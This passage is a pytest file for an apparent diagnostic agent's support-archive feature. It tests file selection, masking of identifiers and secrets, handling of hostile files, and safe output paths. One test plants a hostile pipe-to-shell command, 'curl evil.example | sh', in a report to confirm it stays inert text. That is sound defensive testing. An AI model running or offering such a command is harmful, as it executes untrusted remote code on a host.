"""The archive for a support case: its content, its masks, what it never contains, and where it is written."""

import errno
import io
import itertools
import json
import os
import re
import signal
import socket
import sys
import tarfile
import threading
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from datetime import UTC, datetime
from ipaddress import ip_address
from pathlib import Path
from typing import Any, Final

import pytest

from agent.app import bundle as bundles
from agent.app import bundle_members
from agent.app.bundle import ThisHost, bundle
from agent.app.demo import Simulation
from agent.app.errors import RequestError
from agent.app.own_commands import with_own_commands
from agent.cli.entry import run
from agent.formats import html, text
from agent.formats import json as json_format
from agent.process.files import InterruptedBySignalError
from agent.process.phases import Phase
from agent.process.write_file import to_new_file
from agent.report.codec import decode
from agent.report.model import Report
from agent.report.redact import redact
from agent.report.saved import parse_report
from agent.settings import BundleOptions, Setting
from agent.simulated.clock import VirtualLoop
from agent.simulated.scenario import Scenario
from probes.model import Address
from probes.system.host_files import HostFiles
from tests.agent.app import test_own_commands
from tests.agent.history.entries import change, entry, ill, well, writer
from tests.support import scenarios
from tests.support.command import completed
from tests.support.extent import one_in
from tests.support.planted import KEY_ID, SECRETS, leaked
from tests.support.planted_scenarios import planted
from tests.support.runs import report_of
from tests.support.validator import VALIDATOR

OPTIONS: Final = BundleOptions(report=None, history=None, output=None, wrong=None, plain=False, logs=False, case=False)
SSM: Final = "var/log/amazon/ssm/amazon-ssm-agent.log"
BACKINT: Final = "hana/shared/aws-backint-agent/aws-backint-agent.log"
HOST: Final = "saphana01"
NOW: Final = datetime(2026, 1, 15, 4, 30, tzinfo=UTC)
FILES: Final[Mapping[str, str]] = {
    "etc/resolv.conf": "# by ops@corp.example\nsearch eu-west-1.compute.internal corp.example\nnameserver 10.0.0.2\n",
    "run/systemd/resolve/resolv.conf": "nameserver 10.0.0.2\n",
    "etc/nsswitch.conf": "hosts: files dns\n",
    "etc/hosts": f"127.0.0.1 localhost\n10.0.1.10 {HOST} {HOST}.corp.example # mine\n10.0.9.9 db07\n",
    "etc/os-release": 'NAME=x\nPRETTY_NAME="SUSE Linux Enterprise Server 15 SP6"\n',
    "sys/class/net/lo/mtu": "65536\n",
    "proc/sys/net/ipv4/tcp_keepalive_time": "7200\n",
    "proc/net/sockstat": "sockets: used 34\nTCP: inuse 4 orphan 0 tw 22 alloc 4 mem 83\n",
    "proc/net/sockstat6": "TCP6: inuse 0\n",
    "proc/net/tcp": "  sl  local_address rem_address   st\n   0: 0100007F:0016 00000000:0000 0A\n   1: 0A 0B 01\n",
    "proc/net/tcp6": "  sl\n",
    SSM: f"2026-01-15 03:00:00 INFO {HOST} i-0a1b2c3d4e5f67890 calls 10.0.1.17:443\n",
    "var/log/amazon/ssm/errors.log": "nothing of note\n",
    BACKINT: f"{HOST}.corp.example sends vol-0123456789abcdef0 to 10.0.1.17\n",
}


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty folder beside the host's files, which is the current folder of the test."""
    monkeypatch.setattr(socket, "gethostname", lambda: HOST)
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    return here


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """The files of a host."""
    folder = tmp_path / "root"
    for name, content in FILES.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, "utf-8")
    return folder


def this_host(root: Path, environment: Mapping[str, str] = {}, addresses: tuple[str, ...] = ()) -> ThisHost:
    own: frozenset[Address] = frozenset(map(ip_address, addresses))
    return ThisHost(files=HostFiles(str(root)), environment=environment, addresses=lambda: own, now=lambda: NOW)


def made(
    options: BundleOptions,
    host: ThisHost,
    scenario: Scenario | str | None = None,
    settings: tuple[Setting, ...] = (),
    received_signals: list[str] | None = None,
) -> int:
    """Make an archive. It is of a new run if a scenario is given, in that scenario."""
    chosen = scenarios.load(scenario) if isinstance(scenario, str) else scenario
    simulation = Simulation(chosen or scenarios.load("healthy"))
    run_settings = None if chosen is None else simulation.settings
    received: list[str] = [] if received_signals is None else received_signals
    return bundle(options, run_settings, settings, host, received, simulation.measure, VirtualLoop)


def read(archive: bytes) -> dict[str, bytes]:
    """The content of each member of an archive, by the member's name without the folder."""
    with tarfile.open(fileobj=io.BytesIO(archive), mode="r:gz") as opened:
        return {
            entry.name.partition("/")[2]: stream.read()
            for entry in opened.getmembers()
            if (stream := opened.extractfile(entry)) is not None
        }


def only(place: Path) -> Path:
    (path,) = place.iterdir()
    return path


def saved(path: Path, report: Report) -> str:
    path.write_text(json_format.render(report), "utf-8")
    return str(path)


# --- What the archive contains ---------------------------------------------------------------------------------------

REPORTS: Final = ("report.json", "report.txt", "report.html")
OF_HOST: Final = (
    *("host/resolv.conf", "host/systemd-resolved.conf", "host/nsswitch.conf", "host/hosts", "host/addresses.txt"),
    *("host/routes.txt", "host/rules.txt", "host/neighbours.txt", "host/sysctl.txt", "host/sockets.txt"),
    *("host/sdk.txt", "host/versions.txt"),
)
LOGS: Final = ("logs/ssm-agent.log", "logs/ssm-agent-errors.log", "logs/backint-agent.log")


def test_a_new_run(place: Path, root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    settings = (
        Setting(name="region", values=("eu-west-1",), kind=None, source="command line"),
        Setting(name="profile", values=("ops-team",), kind="profile", source="BACKUPLINK_PROFILE"),
        Setting(name="notify", values=(), kind=None, source="configuration file, for other commands"),
    )
    assert made(replace(OPTIONS, logs=True), this_host(root), "three-faults", settings) == 0
    path = only(place)
    out, errors = capsys.readouterr()
    assert (path.name, out) == ("backuplink-20260115T030000Z.tar.gz", "backuplink-20260115T030000Z.tar.gz\n")
    assert path.stat().st_mode & 0o777 == 0o600
    members = read(path.read_bytes())
    assert [*members] == ["README.txt", *REPORTS, "settings.txt", *OF_HOST, *LOGS]
    for name, content in members.items():
        line = re.search(rf"^  {re.escape(name)} +([0-9,]+) bytes  \S", errors, re.MULTILINE)
        assert line is not None, name
        assert int(line[1].replace(",", "")) == len(content)
        assert name == "README.txt" or f"  {name} ".encode() in members["README.txt"]
    masked = redact(report_of("three-faults"))
    assert members["report.json"].decode() == json_format.render(masked)
    assert members["report.txt"].decode() == text.render(masked)
    assert members["report.html"].decode() == html.render(masked)
    assert members["settings.txt"].decode().splitlines()[2:] == [
        "region = eu-west-1  (command line)",
        "profile = profile-1  (BACKUPLINK_PROFILE)",
        "notify = (set; not shown)  (configuration file, for other commands)",
    ]
    readme = members["README.txt"].decode()
    assert "masked. A value has the same mask" in readme
    assert "\nhost/ and logs/ were read at 2026-01-15 04:30:00 UTC.\n" in readme


def test_what_the_host_is_set_to(place: Path, root: Path) -> None:
    environment = {
        "AWS_REGION": "eu-west-1",
        "AWS_PROFILE": "ops",
        "AWS_USE_FIPS_ENDPOINT": "",
        "HTTPS_PROXY": "http://proxy.corp.example:3128",
        "AWS_ENDPOINT_URL_BACKUP": "https://vpce.corp.example/path-of-a-token",
        "NO_PROXY": "169.254.169.254,.corp.example",
        "HOME": "/home/alice",
    }
    (root / "usr/local/aws-cli/v2").mkdir(parents=True)
    (root / "usr/local/aws-cli/v2/current").symlink_to("/usr/local/aws-cli/v2/2.31.5")
    assert made(replace(OPTIONS, plain=True), this_host(root, environment), "hana-healthy") == 0
    members = {name: content.decode() for name, content in read(only(place).read_bytes()).items()}
    assert members["host/resolv.conf"] == FILES["etc/resolv.conf"]
    assert members["host/hosts"] == FILES["etc/hosts"]
    assert re.search(r"^lo 127\.0\.0\.1/8 mtu 65536$", members["host/addresses.txt"], re.MULTILINE)
    assert "dev lo" in members["host/routes.txt"]
    assert "from all lookup 254" in members["host/rules.txt"]
    assert "net.ipv4.tcp_keepalive_time = 7200\n" in members["host/sysctl.txt"]
    assert "net.ipv4.tcp_sack = not read: No such file or directory\n" in members["host/sysctl.txt"]
    assert members["host/sockets.txt"].endswith(
        "TCP6: inuse 0\ntcp by state: LISTEN 1, ESTABLISHED 1\ntcp6 by state: none\n"
    )
    sdk = members["host/sdk.txt"].splitlines()
    assert [line for line in sdk if re.match("[A-Z_]+  ", line)] == [
        "AWS_ENDPOINT_URL_BACKUP  https://vpce.corp.example/...",
        "AWS_PROFILE  set",
        "AWS_REGION  eu-west-1",
        "AWS_USE_FIPS_ENDPOINT  set, and empty",
        "HTTPS_PROXY  http://proxy.corp.example:3128",
        "NO_PROXY  169.254.169.254, .corp.example",
    ]
    versions = members["host/versions.txt"]
    for line in ("operating system: SUSE Linux Enterprise Server 15 SP6", "AWS CLI: 2.31.5", "agent of hana: "):
        assert f"\n{line}" in versions
    assert re.search(r"^OpenSSL: OpenSSL \d", versions, re.MULTILINE)
    assert "Nothing but secrets is masked" in members["README.txt"]


def test_keys_of_shared_files_are_named_without_values(place: Path, root: Path) -> None:
    (root / "c").write_text(
        "[default]\nregion = eu-west-1\n[profile ops team]\nrole_arn=x\nodd = 1\ns3 =\n  endpoint_url = https://x\n",
        "utf-8",
    )
    (root / "k").write_text(
        f"[default]\naws_secret_access_key = {SECRETS['secret key']}\n{SECRETS['secret key']} = 1\n"
    )
    environment = {"AWS_CONFIG_FILE": "/c", "AWS_SHARED_CREDENTIALS_FILE": "/k"}
    assert made(OPTIONS, this_host(root, environment), "healthy") == 0
    sdk = read(only(place).read_bytes())["host/sdk.txt"].decode()
    assert "AWS_CONFIG_FILE), without values:\n[default]\n  region\n[profile profile-1]\n  role_arn\n  s3\n" in sdk
    assert "  endpoint_url\nand 1 other line with a key\n" in sdk
    assert "\n[default]\n  aws_secret_access_key\nand 1 other line" in sdk


def test_logs_are_left_out_unless_they_are_wanted(place: Path, root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert made(OPTIONS, this_host(root), "healthy") == 0
    assert not [name for name in read(only(place).read_bytes()) if name.startswith("logs/")]
    errors = capsys.readouterr().err
    assert "  logs/: left out: --logs adds them\n" in errors
    assert "Warning" not in errors
    assert made(replace(OPTIONS, logs=True, output="x"), this_host(root), "healthy") == 0
    assert "Warning: Logs are free text. They may contain names of people" in capsys.readouterr().err


def test_of_a_log_the_last_lines_are_taken(place: Path, root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bundle_members, "MAX_LOG", 100_000)
    (root / SSM).write_text("".join(f"line {number}\n" for number in range(100_000)), "utf-8")
    (root / BACKINT).write_text("x" * 5_000 + "\n" + "y" * 99_000 + "\nlast\n", "utf-8")
    assert made(replace(OPTIONS, logs=True), this_host(root), "healthy") == 0
    members = read(only(place).read_bytes())
    lines = members["logs/ssm-agent.log"].decode().splitlines()
    assert (len(lines), lines[0], lines[-1]) == (2_000, "line 98000", "line 99999")
    assert members["logs/backint-agent.log"].decode().splitlines() == [f"{'y' * 4_096} ... (cut)", "last"]
    assert "its last 2,000 lines)" in members["README.txt"].decode()


def test_logs_of_sap_hana_are_found_by_their_systems_and_links(place: Path, root: Path) -> None:
    trace = root / "usr/sap/HDB/HDB00" / HOST / "trace"
    trace.mkdir(parents=True)
    (trace / "backint.log").write_text("of HANA\n", "utf-8")
    link = root / "usr/sap/HDB/SYS/global/hdb/opt/hdbbackint"
    link.parent.mkdir(parents=True)
    link.symlink_to("/opt/aws-backint-agent/aws-backint-agent")
    (root / "opt/aws-backint-agent").mkdir(parents=True)
    (root / "opt/aws-backint-agent/aws-backint-agent.log").write_text("of the agent\n", "utf-8")
    assert made(replace(OPTIONS, logs=True), this_host(root), "hana-healthy") == 0
    members = read(only(place).read_bytes())
    assert members["logs/hana-1-backint.log"] == b"of HANA\n"
    assert members["logs/backint-agent-2.log"] == b"of the agent\n"


# --- Masks and secrets -----------------------------------------------------------------------------------------------


def test_a_value_has_one_mask_in_the_whole_archive(place: Path, root: Path) -> None:
    assert made(replace(OPTIONS, logs=True), this_host(root), "three-faults") == 0
    members = {name: content.decode() for name, content in read(only(place).read_bytes()).items()}
    masked = decode(json.loads(members["report.json"]))
    resolver, address = masked.vantage.resolvers[0], masked.targets[0].addresses[0].address
    assert f"nameserver {resolver}\n" in members["host/resolv.conf"]
    assert f"nameserver {resolver}\n" in members["host/systemd-resolved.conf"]
    own, alias, domain = members["host/hosts"].splitlines()[1].split()
    assert own == str(masked.vantage.source_addresses[0])
    assert members["logs/ssm-agent.log"] == f"2026-01-15 03:00:00 INFO {alias} i-1 calls {address}:443\n"
    assert members["logs/backint-agent.log"] == f"{domain} sends vol-1 to {address}\n"


IDENTIFYING: Final = (
    *("10.0.0.2", "10.0.1.1", "10.0.2.17", "10.0.9.9", "vpc-0", "i-0a1b", "subnet-0", "vol-0", "111122223333"),
    *(HOST, "corp.example", "db07", "ops@", "mine", "ops-team", "BackupAgent", "/srv/ca"),
    *("gateway.acme", "vpce-0"),
)


def test_nothing_that_identifies_is_left(place: Path, root: Path) -> None:
    settings = (
        Setting(name="profile", values=("ops-team",), kind="profile", source="command line"),
        Setting(name="ca-bundle", values=("/srv/ca.pem",), kind="file", source="command line"),
        Setting(name="endpoint", values=("backup=gateway.acme", "ssm=vpce-0a1b2c3d"), kind="host", source="x"),
    )
    kept = writer(place.parent / "h.db")
    words = "2026 raised TCP001 at db07.corp.example 10.0.2.17"
    kept.append(entry(report_of("three-faults"), change(2, text=words), series="watch vpc-0a1b2c3d"))
    kept.close()
    of_history = replace(OPTIONS, history=str(kept.path), output="history")
    of_run = replace(OPTIONS, logs=True, output="run")
    host = this_host(root, {"HTTPS_PROXY": f"http://{HOST}.corp.example:1"})
    for plain in (False, True):
        made(replace(of_history, plain=plain), host)
        made(replace(of_run, plain=plain), host, "three-faults", settings)
        archives = {name: read((place / name).read_bytes()) for name in ("history", "run")}
        assert "history.txt" in archives["history"]
        texts = {
            (name, member): content.decode()
            for name, members in archives.items()
            for member, content in members.items()
        }
        found = {(where, word) for where, content in texts.items() for word in IDENTIFYING if word in content}
        if plain:
            assert {word for _, word in found} == {*IDENTIFYING}
            assert "10.0.2.17" in texts["history", "history.txt"]
        else:
            assert found == set()


SOURCES: Final = (
    f"# aws_secret_access_key = {SECRETS['secret key']}",
    f"; http://{SECRETS['proxy user']}:{SECRETS['proxy password']}@10.0.9.90:3128",
    f'{{"SessionToken": "{SECRETS["session token"]}", "AccessKeyId": "{KEY_ID}"}}',
    f"Authorization: Bearer {SECRETS['container authorization']}",
    f"GET https://b.s3.amazonaws.com/k?X-Amz-Credential={KEY_ID}&X-Amz-Security-Token={SECRETS['session token']}",
    f"https://{SECRETS['endpoint user']}:{SECRETS['endpoint password']}@backup.eu-west-1.amazonaws.com failed",
    # Only the variables of this process have these values:
    f"said {SECRETS['secret key']} and {SECRETS['container authorization']} to /v2/{SECRETS['container path']}",
    f"nameserver {SECRETS['web identity']}",
)
"""Lines with secrets. The tests add them to every file that the archive takes."""


@pytest.mark.parametrize("plain", [False, True])
@pytest.mark.parametrize("name", one_in(128, [name for name in scenarios.names() if name != "healthy"]))
def test_no_secret_is_in_it(
    name: str, plain: bool, place: Path, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for path in [path for path in root.rglob("*") if path.is_file()]:
        path.write_text("\n".join((path.read_text("utf-8"), *SOURCES, "")), "utf-8")
    scenario = planted(scenarios.load(name), case=str.lower)
    environment = {**scenario.host.environment, "AWS_CONFIG_FILE": f"/{SSM}", "HOME": "/nowhere"}
    settings = tuple(
        Setting(name="endpoint", values=(line,), kind=kind, source="x") for line in SOURCES for kind in (None, "file")
    )
    kept = writer(place.parent / "h.db")
    for number, line in enumerate(SOURCES, 1):
        kept.append(entry(ill(number), change(number, text=f"2026 {line}"), series=f"watch {line}"))
    kept.close()
    host = this_host(root, environment)
    assert made(replace(OPTIONS, plain=plain, logs=True, output="run"), host, scenario, settings) == 0
    assert made(replace(OPTIONS, plain=plain, history=str(kept.path), output="history"), host) == 0
    texts: dict[str, str] = {}
    for name in ("run", "history"):
        archive = (place / name).read_bytes()
        members = read(archive)
        texts |= {f"{name} {member}": content.decode() for member, content in members.items()}
        texts |= {f"{name} names": " ".join(members), f"{name} head": archive[:64].decode("latin-1")}
    texts["stdout"], texts["stderr"] = capsys.readouterr()
    assert {f"run {member}" for member in (*OF_HOST, *LOGS, "settings.txt")} | {"history history.txt"} <= {*texts}
    assert {where: leaks for where, words in texts.items() if (leaks := leaked(words))} == {}
    assert "***" in texts["run logs/ssm-agent.log"]
    assert "***" in texts["history history.txt"]
    assert made(replace(OPTIONS, case=True), host, scenario) == 0
    assert leaked(capsys.readouterr().out) == set()


def test_a_secret_in_a_saved_report_is_taken_out(place: Path, root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report = report_of("three-faults")
    finding = replace(report.findings[0], detail=f"at http://me:{SECRETS['proxy password']}@10.0.9.90 and {KEY_ID}")
    name = saved(place.parent / "r.json", replace(report, findings=(finding, *report.findings[1:])))
    for plain in (True, False):
        assert made(replace(OPTIONS, report=name, plain=plain, output="x"), this_host(root)) == 0
        members = read((place / "x").read_bytes())
        assert {one for one, content in members.items() if leaked(content.decode())} == set()
        assert b"***@" in members["report.json"]
    assert made(replace(OPTIONS, report=name, case=True), this_host(root)) == 0
    assert "http://***@10.0.9.90 and ***9W3K" in capsys.readouterr().out


# --- A verdict that was wrong ----------------------------------------------------------------------------------------

TRUE: Final = (
    "The path works: 10.0.2.17 was silent for a minute, while its zone was tested.\nSeen by i-0a1b2c3d4e5f67890."
)


def test_a_verdict_that_was_wrong(place: Path, root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert made(replace(OPTIONS, wrong=TRUE), this_host(root), "three-faults") == 0
    path = only(place)
    out, errors = capsys.readouterr()
    members = {name: content.decode() for name, content in read(path.read_bytes()).items()}
    assert [*members][:5] == ["README.txt", "wrong.txt", *REPORTS]
    words = members["wrong.txt"]
    assert out == f"{path.name}\n"
    assert words in errors
    assert path.name.removesuffix(".tar.gz") in words
    masked = redact(report_of("three-faults"))
    assert json.loads(members["report.json"])["run"]["redacted"] is True
    assert masked.verdict.summary in words.replace("\n ", "")
    causes = [finding for finding in masked.findings if finding.explained_by is None]
    assert [finding.id in words for finding in causes] == [True] * len(causes)
    # The masks of the report also mask the user's own words.
    assert "The path works: " in words
    assert leftovers(words) == []
    true = words.partition("What it said")[0]
    (silent,), (instance,) = re.findall(r"192\.0\.2\.\d+", true), re.findall(r"\bi-\d+\b", true)
    assert f'"{silent}"' in members["report.json"]
    assert f'"{instance}"' in members["report.json"]


def leftovers(words: str) -> list[str]:
    """Ids and addresses that no mask replaced."""
    return re.findall(r"\b(?:i|vpc|subnet|sg)-[0-9a-f]{8,17}\b|\b10(?:\.\d+){3}\b", words)


def test_a_verdict_that_was_wrong_of_a_saved_report(place: Path, root: Path) -> None:
    name = saved(place.parent / "r.json", report_of("three-faults"))
    true = f"It works, M\xfcller says \x1b[2J, with password={SECRETS['proxy password']}"
    assert made(replace(OPTIONS, report=name, wrong=true, plain=True), this_host(root)) == 0
    words = read(only(place).read_bytes())["wrong.txt"].decode()
    assert "It works, M\xfcller says \\x1b[2J, with password=***\n" in words
    assert "vpc-0a1b2c3d4e5f67890" in words


def test_without_a_word_on_what_was_wrong_there_is_no_such_file(place: Path, root: Path) -> None:
    assert made(OPTIONS, this_host(root), "three-faults") == 0
    assert "wrong.txt" not in read(only(place).read_bytes())


def test_a_hostile_report_makes_no_long_list(place: Path, root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report = report_of("three-faults")
    long = "A" * 400_000
    findings = tuple(
        replace(finding, headline=long, id=f"{number}{long}", explained_by=None)
        for number, finding in enumerate(report.findings)
    )
    every = replace(report, verdict=replace(report.verdict, summary=long), findings=findings)
    assert made(replace(OPTIONS, report=saved(place.parent / "r.json", every), wrong=TRUE), this_host(root)) == 0
    members = read(only(place).read_bytes())
    assert len(members["README.txt"]) < 5_000
    assert len(members["wrong.txt"]) < 20_000
    assert len(capsys.readouterr().err) < 25_000


# --- Which report is archived ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", ["json", "html"])
def test_a_saved_report(form: str, place: Path, root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report = report_of("three-faults")
    name = place.parent / f"report.{form}"
    name.write_text({"json": json_format, "html": html}[form].render(report), "utf-8")
    assert made(replace(OPTIONS, report=str(name), plain=True, logs=True), this_host(root)) == 0
    members = read(only(place).read_bytes())
    assert [*members] == ["README.txt", *REPORTS]
    assert parse_report(members["report.json"], "x") == parse_report(name.read_bytes(), "x")
    errors = capsys.readouterr().err
    for folder in ("host", "logs"):
        assert f"  {folder}/: left out: the report is not known to be of this host\n" in errors


def test_the_same_report_gives_the_same_bytes(place: Path, root: Path) -> None:
    name = saved(place.parent / "r.json", report_of("three-faults"))
    for output in ("one", "two"):
        assert made(replace(OPTIONS, report=name, output=output), this_host(root)) == 0
    assert (place / "one").read_bytes() == (place / "two").read_bytes()


@pytest.mark.parametrize(
    ("tag", "addresses", "is_here"),
    [
        pytest.param("i-0a1b2c3d4e5f67890\n", (), True, id="the instance"),
        pytest.param("i-0fffffffffffffff0\n", ("10.0.1.10",), False, id="another instance with its address"),
        pytest.param("a server\n", ("10.0.1.10", "10.9.9.9"), True, id="no instance, its address"),
        pytest.param(None, ("10.0.1.10",), True, id="no tag, its address"),
        pytest.param(None, ("10.0.1.11",), False, id="another address"),
        pytest.param(None, (), False, id="no address known"),
    ],
)
def test_a_saved_report_of_this_host(
    tag: str | None, addresses: tuple[str, ...], is_here: bool, place: Path, root: Path
) -> None:
    if tag is not None:
        path = Path(f"{root}{bundles.ASSET_TAG}")
        path.parent.mkdir(parents=True)
        path.write_text(tag, "utf-8")
    name = saved(place.parent / "r.json", report_of("three-faults"))
    assert made(replace(OPTIONS, report=name), this_host(root, addresses=addresses)) == 0
    assert ("host/hosts" in read(only(place).read_bytes())) is is_here
    masked = saved(place.parent / "m.json", redact(report_of("three-faults")))
    assert made(replace(OPTIONS, report=masked, output="x"), this_host(root, addresses=("192.0.2.1", *addresses))) == 0
    assert "host/hosts" not in read((place / "x").read_bytes())


def test_a_masked_report_stays_what_it_is(place: Path, root: Path) -> None:
    masked = redact(report_of("three-faults"))
    for plain in (True, False):
        options = replace(OPTIONS, report=saved(place.parent / "m.json", masked), plain=plain, output="x")
        assert made(options, this_host(root)) == 0
        members = read((place / "x").read_bytes())
        assert members["report.json"].decode() == json_format.render(with_own_commands(masked))
        assert "are masked" in members["README.txt"].decode()


def test_a_planted_command_of_a_saved_report_is_only_text(place: Path, root: Path) -> None:
    """Whoever gets the archive may paste the commands of the report in it."""
    planted = test_own_commands.planted(report_of("three-faults"), test_own_commands.EVIL)
    for report in (planted, redact(planted)):
        name = saved(place.parent / "r.json", report)
        assert made(replace(OPTIONS, report=name, plain=True, output="x"), this_host(root)) == 0
        members = read(Path("x").read_bytes())
        findings = json.loads(members["report.json"])["findings"]
        assert "evil" not in json.dumps([finding["fix"] for finding in findings])
        page, document = members["report.html"].decode(), members["report.txt"].decode()
        assert not [part for part in page.split("<pre><code>")[1:] if "evil" in part.split("</code>")[0]]
        assert "they are only text: sh -c 'curl evil.example | sh'" in " ".join(document.split())


def test_the_last_report_of_a_history_that_failed(place: Path, root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    kept = writer(place.parent / "h.db")
    for number, report in enumerate((well(1), report_of("three-faults"), well(3)), 1):
        kept.append(entry(report, change(number)))
    kept.close()
    assert made(replace(OPTIONS, history=str(kept.path)), this_host(root)) == 0
    members = read(only(place).read_bytes())
    assert [*members] == ["README.txt", *REPORTS, "history.txt"]
    assert json.loads(members["report.json"])["run"]["id"] == "simulated-three-faults"
    assert members["history.txt"].count(b"raised TCP001@backup") == 3
    assert "The report is that of cycle 2, the latest that failed.\n" in capsys.readouterr().err


@pytest.mark.parametrize("name", one_in(64, scenarios.names()))
def test_an_archive_of_every_scenario(name: str, place: Path, root: Path) -> None:
    path = saved(place.parent / "r.json", report_of(name))
    assert made(replace(OPTIONS, report=path), this_host(root)) == 0
    members = read(only(place).read_bytes())
    assert VALIDATOR.is_valid(json.loads(members["report.json"]))
    assert parse_report(members["report.html"], "x") == parse_report(members["report.json"], "x")


# --- Hostile files ---------------------------------------------------------------------------------------------------


def test_a_large_file_is_cut(place: Path, root: Path) -> None:
    (root / "etc/resolv.conf").write_bytes(b"nameserver 10.0.0.2\n" * 500_000)
    (root / "etc/hosts").write_bytes(b"10.0.0.2 " + b"x" * 10_000_000)
    assert made(OPTIONS, this_host(root), "healthy") == 0
    members = read(only(place).read_bytes())
    assert len(members["host/resolv.conf"]) <= 300_000
    assert len(members["host/hosts"]) <= 300_000
    assert "(its first 256 KiB)" in members["README.txt"].decode()


@pytest.mark.parametrize("plain", [False, True])
def test_bytes_that_are_no_text_are_escaped(plain: bool, place: Path, root: Path) -> None:
    for path in [path for path in root.rglob("*") if path.is_file()]:
        path.write_bytes(bytes(range(256)) * 16 + b"\n\x1b[2J\xe2\x80\xaenameserver 10.0.0.2\n")
    assert made(replace(OPTIONS, plain=plain, logs=True), this_host(root), "healthy") == 0
    for name, content in read(only(place).read_bytes()).items():
        assert all(char.isprintable() or char in "\n\t" for char in content.decode()), name


@pytest.mark.parametrize("kind", ["pipe", "link to a device", "link", "folder", "nothing", "no permission"])
def test_what_cannot_be_read_is_said_and_the_rest_is_there(
    kind: str, place: Path, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = root / SSM
    path.unlink()
    match kind:
        case "pipe":
            os.mkfifo(path)
        case "link to a device":
            path.symlink_to("/dev/zero")
        case "link":
            path.symlink_to(root / "etc/hosts")
        case "folder":
            path.mkdir()
        case "no permission":
            path.touch()
            monkeypatch.setattr(HostFiles, "end", _refusing(HostFiles.end))
    assert made(replace(OPTIONS, logs=True), this_host(root), "healthy") == 0
    members = read(only(place).read_bytes())
    assert [*members] == ["README.txt", *REPORTS, *OF_HOST, *LOGS[1:]]
    why = {"nothing": "No such file or directory", "no permission": "Permission denied"}.get(kind, "not a plain file")
    assert f"\n  logs/ssm-agent.log: not read: {why}\n" in members["README.txt"].decode()


def _refusing(method: Callable[..., tuple[bytes, bool]]) -> Callable[..., tuple[bytes, bool]]:
    def reading(files: HostFiles, path: str, *given: Any) -> tuple[bytes, bool]:
        if path.endswith(SSM):
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES))
        return method(files, path, *given)

    return reading


def test_a_file_system_that_does_not_answer_holds_nothing_up(
    place: Path, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    end = threading.Event()
    monkeypatch.setattr(bundle_members, "SECONDS", 0.1)
    monkeypatch.setattr(HostFiles, "end", lambda *_: (end.wait(), b"")[1])
    try:
        assert made(replace(OPTIONS, logs=True), this_host(root), "healthy") == 0
    finally:
        end.set()
    readme = read(only(place).read_bytes())["README.txt"].decode()
    assert readme.count("not read: it does not end within 0.1 s") == 3


def test_the_archive_is_within_its_bound_whatever_the_logs_are(place: Path, root: Path) -> None:
    for number, name in enumerate((SSM, BACKINT, "var/log/amazon/ssm/errors.log")):
        words = os.urandom(3_000_000).hex()
        (root / name).write_text("\n".join(words[place : place + 3_000] for place in range(number, len(words), 3_000)))
    folder = root / "usr/sap"
    for system, name in itertools.product(("AAA", "BBB", "CCC", "DDD"), ("backint.log", "backup.log")):
        trace = folder / system / "HDB00" / HOST / "trace"
        trace.mkdir(parents=True, exist_ok=True)
        (trace / name).write_text(os.urandom(1_000_000).hex())
    (root / BACKINT).write_text("\n".join(os.urandom(1_000).hex() for _ in range(3_000)), "utf-8")
    assert made(replace(OPTIONS, logs=True), this_host(root), "healthy") == 0
    assert only(place).stat().st_size <= 5_000_000


# --- Where the archive is written ------------------------------------------------------------------------------------


def test_nothing_is_written_over_unless_it_is_named(place: Path, root: Path) -> None:
    name = saved(place.parent / "r.json", report_of("healthy"))
    there = place / "backuplink-20260115T030000Z.tar.gz"
    there.write_text("mine", "utf-8")
    with pytest.raises(RequestError, match="exists already, and is left as it is"):
        made(replace(OPTIONS, report=name), this_host(root))
    assert there.read_text("utf-8") == "mine"
    there.chmod(0o644)
    assert made(replace(OPTIONS, report=name, output=there.name), this_host(root)) == 0
    assert (there.read_bytes()[:2], there.stat().st_mode & 0o777) == (b"\x1f\x8b", 0o600)


def test_an_archive_that_goes_to_stdout_is_all_that_is_there(
    place: Path, root: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    name = saved(place.parent / "r.json", report_of("healthy"))
    assert made(replace(OPTIONS, report=name, output="/dev/stdout"), this_host(root)) == 0
    assert [*read(capfdbinary.readouterr().out)] == ["README.txt", *REPORTS]
    assert [*place.iterdir()] == []


@pytest.mark.parametrize(
    ("output", "why"),
    [
        (".", "Is a directory"),
        ("nowhere/x", "No such file or directory"),
        ("/dev/full", "No space left on device"),
        ("a\0b", "embedded null byte"),
    ],
)
def test_a_place_that_takes_none(output: str, why: str, place: Path, root: Path) -> None:
    name = saved(place.parent / "r.json", report_of("healthy"))
    with pytest.raises(RequestError, match=f"cannot be written: {why}; there is no archive"):
        made(replace(OPTIONS, report=name, output=output), this_host(root))
    assert [*place.iterdir()] == []


def test_a_full_disk_leaves_no_half_of_it(place: Path, root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(_: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(RequestError, match="No space left on device"):
        made(OPTIONS, this_host(root), "healthy")
    assert [*place.iterdir()] == []


# --- Signals ---------------------------------------------------------------------------------------------------------


@pytest.fixture
def _heeding() -> Iterator[None]:
    """After the test, no alarm of the grace period is set."""
    yield
    signal.setitimer(signal.ITIMER_REAL, 0)


@pytest.mark.usefixtures("_heeding")
@pytest.mark.parametrize("phase", ["run", "host", "list"])
def test_a_signal_before_it_is_written_leaves_nothing(
    phase: str, place: Path, root: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
